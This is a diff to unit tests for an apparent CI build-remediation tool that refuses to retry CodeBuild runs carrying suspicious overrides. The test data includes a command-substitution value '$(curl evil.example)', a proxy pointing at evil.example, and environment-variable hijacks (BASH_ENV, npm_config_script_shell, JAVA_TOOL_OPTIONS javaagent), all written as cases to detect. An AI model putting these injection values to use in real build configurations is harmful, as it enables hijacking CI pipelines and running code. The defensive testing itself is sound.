@@ -12,7 +12,7 @@ from remediator.core.failure import BuildArn, BuildFailure
 from remediator.core.image import ImageReference
 from remediator.core.outcome import Ending, Outcome
 from remediator.core.plan import takes_registry_credential
-from remediator.core.review import objection
+from remediator.core.review import objection, pull_request_objection
 from remediator.core.secret_policy import SecretPolicyFault, with_role
 from tests.unit import given
 
@@ -108,13 +108,20 @@ STEERING = {
     "another docker configuration": {"name": "DOCKER_AUTH_CONFIG", "value": "{}", "type": "PLAINTEXT"},
     "a proxy": {"name": "https_proxy", "value": "http://evil.example", "type": "PLAINTEXT"},
     "the words": {"name": "NOTE", "value": "toomanyrequests: You have reached", "type": "PLAINTEXT"},
+    "the other words": {"name": "NOTE", "value": "You have reached your pull rate limit.", "type": "PLAINTEXT"},
+    "a parameter of that name": {"name": "BASH_ENV", "value": "/mine", "type": "PARAMETER_STORE"},
+    "a shell's trace": {"name": "PS4", "value": "x", "type": "PLAINTEXT"},
+    "git's settings": {"name": "GIT_CONFIG_COUNT", "value": "1", "type": "PLAINTEXT"},
+    "npm's shell": {"name": "npm_config_script_shell", "value": "/evil", "type": "PLAINTEXT"},
+    "java's options": {"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:x", "type": "PLAINTEXT"},
     "a command": {"name": "TAG", "value": "$(curl evil.example)", "type": "PLAINTEXT"},
 }
 ORDINARY = {
     "a stage": {"name": "STAGE", "value": "live", "type": "PLAINTEXT"},
     "docker's builder": {"name": "DOCKER_BUILDKIT", "value": "1", "type": "PLAINTEXT"},
     "node's environment": {"name": "NODE_ENV", "value": "production", "type": "PLAINTEXT"},
-    "a reference": {"name": "PATH", "value": "secret:key", "type": "SECRETS_MANAGER"},
+    "a reference": {"name": "NPM_TOKEN", "value": "secret:key", "type": "SECRETS_MANAGER"},
+    "python's output": {"name": "PYTHONUNBUFFERED", "value": "1", "type": "PLAINTEXT"},
 }
 
 
@@ -146,3 +153,33 @@ def test_a_variable_that_the_project_itself_has_is_no_objection(case: str) -> No
 def test_nothing_but_one_role_comes_into_the_secrets_policy(role: str) -> None:
     with pytest.raises(SecretPolicyFault):
         with_role(None, role)
+
+
+EVIL = "https://github.com/evil/x.git"
+MORE: dict[str, dict[str, Any]] = {
+    "cache": {"cache": {"type": "S3", "location": "evil/cache"}},
+    "environment.certificate": {"env": {"certificate": "evil/ca.pem"}},
+    "secondarySources": {"secondarySources": [{"sourceIdentifier": "x", "type": "GITHUB", "location": EVIL}]},
+    "secondarySourceVersions": {"secondarySourceVersions": [{"sourceIdentifier": "x", "sourceVersion": "pr/7"}]},
+    "logsConfig": {"logs": {"groupName": "evil", "streamName": "x"}},
+}
+
+
+@pytest.mark.parametrize("member", MORE)
+def test_commands_that_were_given_other_files_or_another_log_are_no_ground_for_a_repair(member: str) -> None:
+    found = objection(given.throttled_command(**MORE[member]), given.of_commands(), given.SIGN_IN, "repair", 0.0)
+    assert found is not None
+    assert f"with another {member}" in found.reason
+
+
+@pytest.mark.parametrize("version", ["pr/7", "refs/pull/7/head", "refs/pull/7/head^{" + given.COMMIT + "}", "mr/7"])
+def test_commands_of_a_pull_request_that_somebody_named_are_no_ground_for_a_repair(version: str) -> None:
+    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is not None
+    webhook = given.throttled_command(sourceVersion=version, initiator="GitHub-Hookshot/1")
+    assert pull_request_objection(webhook) is None
+    assert pull_request_objection(given.build(sourceVersion=version)) is None
+
+
+@pytest.mark.parametrize("version", [None, "main", "pr-7", "refs/heads/pr/7", given.COMMIT])
+def test_other_versions_are_no_pull_request(version: str | None) -> None:
+    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is None
